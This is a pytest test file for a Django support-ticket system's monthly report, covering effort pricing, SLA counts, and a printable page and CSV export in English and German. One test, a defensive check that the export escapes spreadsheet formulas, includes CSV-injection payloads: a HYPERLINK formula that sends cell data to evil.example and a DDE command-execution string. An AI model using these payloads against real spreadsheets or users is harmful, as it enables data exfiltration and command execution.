"""The monthly report per organisation: its tickets and SLA figures, and effort that adds up
(minutes → hours → days at the contract's hours per day → amount at its daily rate)."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.models import Role
from reports.monthly import (
    NOT_CHARGED,
    OUT_OF_HOURS,
    REGULAR,
    effort_price,
    effort_total,
    effort_totals,
    monthly_report,
)
from sla.models import Calendar, Contract, Policy
from tests.factories import AgentFactory, OrganisationFactory, UserFactory
from tests.reports.dashboard_data import OPEN, berlin, make_ticket, reacted
from tests.tickets.sla_helpers import clock
from tickets.models import TimeEntry

pytestmark = pytest.mark.django_db
NOW = berlin(2026, 12, 3, 10, 0)


def test_effort_is_priced_from_the_exact_minutes_and_rounded_once():
    quarter = effort_price(minutes=75, hours_per_day=Decimal("8"), daily_rate=Decimal("960.00"))
    assert (quarter.hours, quarter.days, quarter.amount) == (Decimal("1.25"), Decimal("0.16"), Decimal("150.00"))
    minute = effort_price(minutes=1, hours_per_day=Decimal("8"), daily_rate=Decimal("960.00"))
    assert (minute.hours, minute.days, minute.amount) == (Decimal("0.02"), Decimal("0.00"), Decimal("2.00"))
    day = effort_price(minutes=450, hours_per_day=Decimal("7.50"), daily_rate=Decimal("1000.00"))
    assert (day.hours, day.days, day.amount) == (Decimal("7.50"), Decimal("1.00"), Decimal("1000.00"))


def test_half_cents_round_up():
    # 3 minutes at 0.80 per 8-hour day: 3 * 0.80 / 480 = 0.005 exactly.
    assert effort_price(minutes=3, hours_per_day=Decimal("8"), daily_rate=Decimal("0.80")).amount == Decimal("0.01")


def test_without_a_rate_or_for_work_not_charged_there_is_no_amount():
    assert effort_price(minutes=60, hours_per_day=Decimal("8"), daily_rate=None).amount is None
    unpaid = effort_price(minutes=60, hours_per_day=Decimal("8"), daily_rate=Decimal("960"), charged=False)
    assert (unpaid.days, unpaid.amount) == (Decimal("0.13"), None)  # 0.125, halves up
    assert effort_price(minutes=60, hours_per_day=None, daily_rate=None).days is None


@pytest.fixture
def setup():
    """Müller with a contract that changes on 16 November: 960.00 per 8-hour day, then 1,000.00 per
    7.5-hour day."""
    calendar = Calendar.objects.create(slug="de-test", name="Support Köln", time_zone="Europe/Berlin")
    policy = Policy.objects.create(name="Standard Köln", slug="standard-koeln", calendar=calendar)
    müller = OrganisationFactory(name="Müller Maschinenbau GmbH", customer_number="10001")
    Contract.objects.create(organisation=müller, policy=policy, valid_from=date(2024, 1, 1),
                            valid_until=date(2026, 11, 15), daily_rate=Decimal("960.00"), hours_per_day=Decimal("8"))
    Contract.objects.create(organisation=müller, policy=policy, valid_from=date(2026, 11, 16),
                            daily_rate=Decimal("1000.00"), hours_per_day=Decimal("7.50"))
    agent = AgentFactory(first_name="Anja", last_name="Böhm")
    ticket = reacted(müller, reported_at=berlin(2026, 11, 2, 9), after=timedelta(hours=1),
                     due_after=timedelta(hours=6), business_seconds=3600)
    late = reacted(müller, reported_at=berlin(2026, 11, 20, 9), after=timedelta(hours=8),
                   due_after=timedelta(hours=6), business_seconds=28800)
    make_ticket(müller, reported_at=berlin(2026, 11, 25, 9), severity="", category="question")

    def entry(on, minutes, *, billable=True, out_of_hours=False, target=ticket, note="Fernwartung"):
        return TimeEntry.objects.create(ticket=target, agent=agent, worked_on=on, minutes=minutes, note=note,
                                        billable=billable, out_of_hours=out_of_hours)

    entry(date(2026, 11, 2), 90)
    entry(date(2026, 11, 3), 45)
    entry(date(2026, 11, 14), 120, out_of_hours=True, note="Samstag, Kasse 3")
    entry(date(2026, 11, 5), 30, billable=False, note="Rückruf")
    entry(date(2026, 11, 20), 225, target=late)  # under the second contract
    entry(date(2026, 11, 21), 60, out_of_hours=True, target=late)
    entry(date(2026, 10, 31), 600)  # October: not in the report
    other = OrganisationFactory()
    entry(date(2026, 11, 10), 600, target=make_ticket(other, reported_at=berlin(2026, 11, 9, 9)))
    return {"müller": müller, "ticket": ticket, "late": late}


def test_the_month_adds_up_per_contract_and_kind(setup):
    report = monthly_report(organisation=setup["müller"], year=2026, month=11, now=NOW)

    lines = [(s.contract.daily_rate, s.kind, s.entries, s.effort.minutes, s.effort.hours, s.effort.days,
              s.effort.amount) for s in report.sections]
    assert lines == [
        # 135 min = 2.25 h = 0.28125 days * 960 = 270.00
        (Decimal("960.00"), REGULAR, 2, 135, Decimal("2.25"), Decimal("0.28"), Decimal("270.00")),
        # 120 min = 2 h = 0.25 days * 960 = 240.00
        (Decimal("960.00"), OUT_OF_HOURS, 1, 120, Decimal("2.00"), Decimal("0.25"), Decimal("240.00")),
        (Decimal("960.00"), NOT_CHARGED, 1, 30, Decimal("0.50"), Decimal("0.06"), None),
        # 225 min = 3.75 h = 0.5 days * 1000 = 500.00
        (Decimal("1000.00"), REGULAR, 1, 225, Decimal("3.75"), Decimal("0.50"), Decimal("500.00")),
        # 60 min = 1 h = 0.1333... days * 1000 = 133.33
        (Decimal("1000.00"), OUT_OF_HOURS, 1, 60, Decimal("1.00"), Decimal("0.13"), Decimal("133.33")),
    ]
    assert report.total_amount == Decimal("1143.33") == sum(s.effort.amount for s in report.sections if s.charged)
    assert [e.minutes for e in report.entries_of(OUT_OF_HOURS)] == [120, 60]
    assert [e.note for e in report.entries_of(NOT_CHARGED)] == ["Rückruf"]


def test_the_month_counts_its_tickets_and_sla(setup):
    report = monthly_report(organisation=setup["müller"], year=2026, month=11, now=NOW)

    assert report.reported == 3
    assert report.by_severity == [("Severe", 2), ("Minor", 0), ("Without severity", 1)]
    assert (report.reaction.met, report.reaction.breached, report.reaction.percent) == (1, 1, Decimal("50.0"))
    assert report.breaches == 1
    assert [line.reference for line in report.breached] == [setup["late"].reference]
    assert [t.reference for t in report.tickets][:2] == [setup["ticket"].reference, setup["late"].reference]
    assert report.reaction_median_seconds == 16200


def test_a_ticket_listed_under_breaches_shows_its_target_as_breached(setup):
    # Reported on 27 November, the reaction due 6 hours later and not given: nothing has stored
    # the breach yet (the state changes on events), but the month's breaches count it.
    overdue = make_ticket(setup["müller"], reported_at=berlin(2026, 11, 27, 9), reaction_state=OPEN,
                          reaction_target="6h", reaction_due_at=berlin(2026, 11, 27, 15),
                          reaction_warning_at=berlin(2026, 11, 27, 13, 30), status="new")
    report = monthly_report(organisation=setup["müller"], year=2026, month=11, now=NOW)

    assert overdue.reference in [line.reference for line in report.breached]
    row = next(t for t in report.tickets if t.reference == overdue.reference)
    assert row.reaction == "Breached"
    late = next(t for t in report.tickets if t.reference == setup["late"].reference)
    assert (late.reaction, late.resolution) == ("Breached", "\u2013")
    on_time = next(t for t in report.tickets if t.reference == setup["ticket"].reference)
    assert on_time.reaction == "Met"
    # Before its due instant the same ticket is open, in both places.
    early = monthly_report(organisation=setup["müller"], year=2026, month=11, now=berlin(2026, 11, 27, 10))
    assert overdue.reference not in [line.reference for line in early.breached]
    assert next(t for t in early.tickets if t.reference == overdue.reference).reaction == "Open"


def test_a_running_month_is_provisional(setup, client):
    assert monthly_report(organisation=setup["müller"], year=2026, month=11, now=NOW).provisional is False
    running = monthly_report(organisation=setup["müller"], year=2026, month=12, now=NOW)
    assert running.provisional is True and running.as_of == NOW
    # The last second of the month is still provisional, the first of the next one is not.
    assert monthly_report(organisation=setup["müller"], year=2026, month=11,
                          now=berlin(2026, 11, 30, 23, 59, 59)).provisional is True
    assert monthly_report(organisation=setup["müller"], year=2026, month=11,
                          now=berlin(2026, 12, 1, 0, 0)).provisional is False


def test_effort_totals_take_any_time_entry_queryset(setup):
    sections = effort_totals(entries=TimeEntry.objects.filter(ticket=setup["late"]))
    assert [(s.kind, s.effort.amount) for s in sections] == [(REGULAR, Decimal("500.00")),
                                                             (OUT_OF_HOURS, Decimal("133.33"))]
    assert effort_total(sections) == Decimal("633.33")
    assert effort_totals(entries=TimeEntry.objects.none()) == []


def test_work_without_a_daily_rate_cannot_be_priced(setup):
    Contract.objects.filter(daily_rate=Decimal("1000.00")).update(daily_rate=None)
    report = monthly_report(organisation=setup["müller"], year=2026, month=11, now=NOW)
    assert report.total_amount is None
    assert [s.effort.amount for s in report.sections][-2:] == [None, None]


@pytest.fixture
def manager():
    return UserFactory(role=Role.MANAGER, organisation=OrganisationFactory(kind="vendor"), language="en")


def report_url(number="10001", year=2026, month=11, name="dashboard:monthly_report"):
    return reverse(name, kwargs={"customer_number": number, "year": year, "month": month})


def test_the_printable_page_shows_the_figures(client, manager, setup):
    client.force_login(manager)
    with clock(NOW):
        response = client.get(report_url())
    page = response.content.decode()
    assert response.status_code == 200
    assert "Monthly report November 2026" in page and "Müller Maschinenbau GmbH" in page
    assert 'href="/static/css/dashboard.css"' in page  # the print styles
    assert 'data-testid="total">1143.33&nbsp;€' in page
    assert 'data-testid="entries-out_of_hours"' in page and "Samstag, Kasse 3" in page
    assert "Paid out-of-hours work" in page


def test_the_printable_page_in_german(client, manager, setup):
    manager.language = "de"
    manager.save()
    client.force_login(manager)
    with clock(NOW):
        page = client.get(report_url()).content.decode()
    assert "Monatsbericht November 2026" in page
    assert "Bezahlte Arbeit außerhalb der Supportzeiten" in page
    assert 'data-testid="total">1143,33&nbsp;€' in page


def test_the_page_and_the_csv_mark_a_running_month_as_provisional(client, manager, setup):
    client.force_login(manager)
    with clock(NOW):
        running = client.get(report_url(month=12)).content.decode()
        ended = client.get(report_url()).content.decode()
        csv_text = client.get(report_url(month=12, name="dashboard:monthly_csv")).content.decode("utf-8")
    assert 'data-testid="provisional"' in running and "figures are provisional" in running
    assert 'data-testid="provisional"' not in ended
    first = next(csv.reader(io.StringIO(csv_text[1:]), delimiter=","))
    assert first[-1] == "provisional: the month has not ended yet"


def test_the_german_csv_has_the_decimal_comma(client, manager, setup):
    manager.language = "de"
    manager.save()
    client.force_login(manager)
    with clock(NOW):
        text = client.get(report_url(name="dashboard:monthly_csv")).content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert ["Bezahlte Arbeit in den Supportzeiten", "2", "135", "2,25", "8,00", "0,28", "960,00", "270,00"] in rows


def test_the_report_as_csv(client, manager, setup):
    client.force_login(manager)
    with clock(NOW):
        response = client.get(report_url(name="dashboard:monthly_csv"))
    assert response["Content-Disposition"] == 'attachment; filename="report-10001-2026-11.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=","))
    assert rows[0] == ["Monthly report", "Müller Maschinenbau GmbH", "10001", "2026-11"]
    effort = rows[rows.index(["Effort", "Time entries", "Minutes", "Hours", "Hours per day", "Days", "Daily rate",
                              "Amount"]):]
    assert effort[1] == ["Paid work in support hours", "2", "135", "2.25", "8.00", "0.28", "960.00", "270.00"]
    assert effort[3] == ["Work not charged", "1", "30", "0.50", "8.00", "0.06", "", ""]
    assert effort[6] == ["Total amount", "", "", "", "", "", "", "1143.33"]
    assert ["2026-11-14", setup["ticket"].reference, setup["ticket"].subject, "Anja Böhm", "Analysis", "120",
            "2.00", "Paid out-of-hours work", "Samstag, Kasse 3"] in rows


def test_the_csv_carries_no_formula_a_customer_or_an_agent_typed(client, manager, setup):
    subject = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    ticket = make_ticket(setup["müller"], reported_at=berlin(2026, 11, 26, 9), subject=subject)
    TimeEntry.objects.create(ticket=ticket, agent=AgentFactory(), worked_on=date(2026, 11, 26), minutes=15,
                             note='=cmd|" /C calc"!A0')
    TimeEntry.objects.create(ticket=ticket, agent=AgentFactory(), worked_on=date(2026, 11, 27), minutes=20,
                             note="\t@SUM(A1:A9)")
    client.force_login(manager)
    with clock(NOW):
        text = client.get(report_url(name="dashboard:monthly_csv")).content.decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=",") for cell in row]
    assert cells.count("'" + subject) == 3  # both time entries and the list of tickets
    assert subject not in cells
    assert "'=cmd\\|\" /C calc\"!A0" in cells  # defusedcsv also escapes the pipe of a DDE call
    assert "'\t@SUM(A1:A9)" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]


@pytest.mark.parametrize(("number", "year", "month"), [("40101", 2026, 11), ("99999", 2026, 11), ("10001", 2026, 13),
                                                       ("10001", 1999, 1)])
def test_reports_outside_what_the_manager_may_see_are_not_found(client, demo, number, year, month):
    client.force_login(demo["users"]["manager"])
    for name in ("dashboard:monthly_report", "dashboard:monthly_csv"):
        assert client.get(report_url(number, year, month, name)).status_code == 404


def test_choosing_an_organisation_and_month_opens_the_report(client, demo):
    client.force_login(demo["users"]["manager"])
    response = client.get(reverse("dashboard:monthly"), {"organisation": "30001", "month": "2026-10"})
    assert response.status_code == 302
    assert response["Location"] == report_url("30001", 2026, 10)


def test_a_bad_choice_is_reported_next_to_the_field_in_german(client, demo):
    client.force_login(demo["users"]["manager"])  # German
    response = client.get(reverse("dashboard:monthly"), {"organisation": "40101", "month": "Oktober"})
    page = response.content.decode()
    assert response.status_code == 200
    assert "Bitte geben Sie einen Monat als Jahr und Monat ein, z. B. 2026-11." in page
    assert "Bitte eine gültige Auswahl treffen. Dies ist keine gültige Auswahl." in page  # Bäckerei: the reseller's
    assert 'value="Oktober"' in page
